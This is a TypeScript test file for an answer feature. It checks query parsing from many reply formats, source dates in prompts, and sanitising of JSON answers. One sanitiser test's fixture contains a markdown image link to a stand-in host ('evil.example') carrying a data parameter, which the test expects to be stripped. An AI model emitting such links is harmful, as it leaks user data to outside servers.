import { expect, test } from 'vitest'
import { promptFor } from '@/lib/capabilities/answer'
import { answerInput } from '@/lib/capabilities/answer/input'
import { readQueries } from '@/lib/capabilities/answer/queries'
import { emptyObject, safeObject } from '@/lib/capabilities/answer/safe/object'

const ASKED = ['mount talbek elevation survey', 'talbek summit metres official']
const [ONE, TWO] = ASKED

test.each([
  JSON.stringify(ASKED),
  JSON.stringify({ queries: ASKED }),
  JSON.stringify(ASKED.map((query) => ({ query, why: 'to know' }))),
  `\`\`\`json\n${JSON.stringify(ASKED)}\n\`\`\``,
  `\`\`\`text\n${ONE}\n${TWO}\n\`\`\``,
  `Query 1: ${ONE}\nQuery 2: ${TWO}`,
  `**Query 1:** ${ONE}\n**Query 2:** ${TWO}`,
  `1. ${ONE}\n2) ${TWO}`,
  `- "${ONE}"\n- "${TWO}"`,
  `Sure! Here are some queries\n${ONE}\n${TWO}`,
  `Here are two queries:\n\n1. ${ONE}\n2. ${TWO}\n\nI hope that they help you.`,
  `${ONE}, ${TWO}`,
  `${ONE}; ${TWO}`,
  `${ONE} / ${TWO}`,
  `(1) ${ONE} (2) ${TWO}`,
  `1. ${ONE} 2. ${TWO}`,
  `a) ${ONE}; b) ${TWO}`,
  `${ONE}\\n${TWO}`,
  `queries:\n  - ${ONE}\n  - ${TWO}`,
  `- query: ${ONE}\n  reason: because the survey tells\n- query: ${TWO}\n  reason: it is official`,
  `Here is what I suggest: ["${ONE}", "${TWO}"]. Let me know!`,
  `["${ONE}", "${TWO}",]`,
  `{"query": "${ONE}"}\n{"query": "${TWO}"}`,
  `{"query1": "${ONE}", "query2": "${TWO}"}`,
  `{"1": "${ONE}", "2": "${TWO}"}`,
  `{"search_queries": [{"text": "${ONE}"}, {"text": "${TWO}"}]}`,
  `{"queries": [{"search_query": "${ONE}", "why": "x y"}, {"search_query": "${TWO}"}]}`,
  `<tool_call>{"name": "search", "arguments": "{\\"queries\\": [\\"${ONE}\\", \\"${TWO}\\"]}"}</tool_call>`,
  `1. **${ONE}** – finds the survey\n2. **${TWO}** – finds the official page`,
  `1. **Survey**: ${ONE}\n2. **Official**: ${TWO}`,
  `- **Survey angle:** ${ONE}\n- **Official angle:** ${TWO}`,
  `1. "${ONE}" (to find the survey)\n2. "${TWO}" (for the official figure)`,
  `Search 1 – ${ONE}\nSearch 2 – ${TWO}`,
  `Query 1 — ${ONE}\nQuery 2 — ${TWO}`,
  `Angle 1: ${ONE}\nAngle 2: ${TWO}`,
  `Búsqueda 1: ${ONE}\nBúsqueda 2: ${TWO}`,
  `検索クエリ1：${ONE}\n検索クエリ2：${TWO}`,
  `1、${ONE}\n2、${TWO}`,
  `#1 ${ONE}\n#2 ${TWO}`,
  `1 – ${ONE}\n2 – ${TWO}`,
  `1\uFE0F\u20E3 ${ONE}\n2\uFE0F\u20E3 ${TWO}`,
  `— ${ONE}\n— ${TWO}`,
  `> ${ONE}\n> ${TWO}`,
  `-> ${ONE}\n-> ${TWO}`,
  `- [ ] ${ONE}\n- [ ] ${TWO}`,
  `## ${ONE}\n## ${TWO}`,
  `**Query 1**\n${ONE}\n\n**Query 2**\n${TWO}`,
  `| Angle | Search query |\n|:--|:--|\n| The survey angle | ${ONE} |\n| Official | ${TWO} |`,
  `The user wants queries.\n1. maybe this here\n</think>\n${ONE}\n${TWO}`,
  `<thinking>some words here</thinking>\n${ONE}\n${TWO}`,
  `<query id="1">${ONE}</query>\n<query id="2">${TWO}</query>`,
  `You could search for "${ONE}" and "${TWO}".`,
  `${ONE}\n${TWO}\n\nNote: I avoided repeating the original question.`,
])('two queries are read from %s', (reply) => {
  expect(readQueries(reply)).toEqual(ASKED)
})

test.each([
  'Washington D.C.',
  'history of Yahoo!',
  '2026 election',
  'Paris, France',
  'museums in Berlin etc.',
  '-5 degrees in fahrenheit',
  '.NET 9 release date',
  'site:talbek.example height',
  'talbek: the official height',
  'How tall is Talbek?',
])('the query %s stays', (query) => {
  expect(readQueries(query)).toEqual([query])
})

test('queries that end as sentences stay', () => {
  const sentences = ['Height of mount talbek.', 'Official survey of talbek.']
  expect(readQueries(sentences.join('\n'))).toEqual(sentences)
})

test.each([
  'Nothing to say.',
  'Okay!',
  'Here are the queries:',
  'I cannot search the web.',
  'Could you tell me which mountain you mean?',
  '',
])('%s is not a query', (talk) => {
  expect(readQueries(talk)).toEqual([])
})

const source = (date: string | null) => ({
  source: {
    hit: { title: 'T', link: 'https://a.example/', snippet: '', provider: 'p' },
    title: 'T',
    passages: [],
    read: 'page' as const,
    date,
  },
  passages: [],
})
const input = (more = {}) => answerInput.parse({ query: 'q', model: 'm', citations: true, ...more })

test('the model is told when a source was published, if it is known', () => {
  const { prompt } = promptFor(input(), {
    sources: [source('2014-03-01'), source(null)],
    tokens: 0,
  })
  expect(prompt.match(/Published: .*/g)).toEqual(['Published: 2014-03-01'])
})

test('the model is told when a source changed after it was published', () => {
  const changed = (date: string | null, modifiedAt: string) => {
    const { source: page, passages } = source(date)
    return { source: { ...page, modifiedAt }, passages }
  }
  const { prompt } = promptFor(input(), {
    sources: [
      changed('2014-03-01', '2026-05-02T10:00:00Z'),
      changed('2026-05-02', '2026-05-02T10:00:00Z'),
      changed(null, '2026-06-01'),
    ],
    tokens: 0,
  })
  expect(prompt.match(/Updated: .*/g)).toEqual([
    'Updated: 2026-05-02T10:00:00Z',
    'Updated: 2026-06-01',
  ])
})

test('no marker is asked for inside the values of a json answer', () => {
  const { system } = promptFor(input({ answer_type: 'json' }), { sources: [], tokens: 0 })
  expect(system).not.toContain('square brackets')
})

test('the texts of a json answer keep the rules of every answer', () => {
  const said = {
    height: '4,812 metres [1]',
    notes: ['See [9] and ![x](http://evil.example/p.png?d=1)'],
    more: { plain: 'nothing to clean  ', count: 3, none: null },
  }
  const sources = [source(null)]
  const plain = safeObject(said, { citations: false }, { sources })
  expect(plain).toMatchObject({ height: '4,812 metres', more: said.more })
  expect(JSON.stringify(plain)).not.toMatch(/\[\d\]|!\[/)
  const cited = safeObject(said, { citations: true }, { sources })
  expect(cited.height).toBe('4,812 metres [1]')
  expect(JSON.stringify(cited)).not.toContain('[9]')
})

test('an address in a json value stays an address', () => {
  const said = { site: 'https://other.example/a', mail: 'write to <a@b.example>' }
  expect(safeObject(said, { citations: true }, { sources: [source(null)] })).toEqual(said)
})

test('a json answer without any source has no values', () => {
  const properties = {
    name: { type: 'string' },
    tags: { type: 'array' },
    size: { properties: { metres: { type: 'number' } } },
  }
  expect(emptyObject({ type: 'object', properties })).toEqual({
    name: null,
    tags: [],
    size: { metres: null },
  })
})

const A = 'mount talbek elevation survey'
const B = 'talbek summit metres official'

test.each([
  `**Query 1:** ${A}\n**Query 2:** ${B}`,
  `<query>${A}</query>\n<query>${B}</query>`,
  `<think>hm</think>\n${A}\n${B}`,
  `Q1: ${A}\nQ2: ${B}`,
  `a) ${A}\nb) ${B}`,
  `I. ${A}\nII. ${B}`,
  `① ${A}\n② ${B}`,
  `[1] ${A}\n[2] ${B}`,
  `First query: ${A}\nSecond query: ${B}`,
  `"${A}", "${B}"`,
  `['${A}', '${B}',]`,
  `| # | Query |\n|---|---|\n| 1 | ${A} |\n| 2 | ${B} |`,
  `1. ${A}\n   - reason: it finds the survey\n2. ${B}\n   - reason: official`,
  `1. ${A} - finds the survey\n2. ${B} - official height`,
  `search("${A}")\nsearch("${B}")`,
  `## Queries\n-${A}\n-${B}`,
])('queries are read from %j', (reply) => expect(readQueries(reply)).toEqual([A, B]))

test.each(['https://acme.com/', 'see https://acme.com.', 'write to <a@b.c>', 'List<String>'])(
  'the value %s of a json answer is not Markdown, and stays',
  (text) => {
    const answer = safeObject({ text }, { citations: false }, { sources: [source(null)] })
    expect(answer.text).toBe(text)
  },
)

test.each(['{"queries": []}', '```json\n{"queries": []}\n```', '[]', '{}'])(
  'a reply without a query is not searched: %s',
  (reply) => {
    expect(readQueries(reply)).toEqual([])
  },
)
